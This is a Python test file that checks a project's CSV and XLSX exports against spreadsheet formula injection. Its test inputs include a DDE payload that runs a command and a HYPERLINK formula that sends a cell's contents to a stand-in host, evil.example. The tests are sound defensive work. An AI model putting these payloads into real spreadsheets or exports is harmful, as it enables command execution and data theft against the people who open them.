"""No cell of a file that somebody downloads is a formula, whatever was typed."""

import csv
import io
import zipfile

from rollcall.exports import DANGEROUS, file_of
from tests.security.naughty import naughty_strings

CELLS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    *naughty_strings(),
]


def test_no_cell_of_a_csv_file_is_a_formula() -> None:
    content = file_of(["typed"], [[one] for one in CELLS], "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == len(CELLS) + 1
    assert not [row for row in rows[1:] if row and row[0].startswith(DANGEROUS)]


def test_no_cell_of_a_workbook_is_a_formula_or_a_link() -> None:
    content = file_of(["typed"], [[one] for one in CELLS], "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml")
        links = [name for name in book.namelist() if "rels" in name and "sheet" in name]
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet
    assert links == []
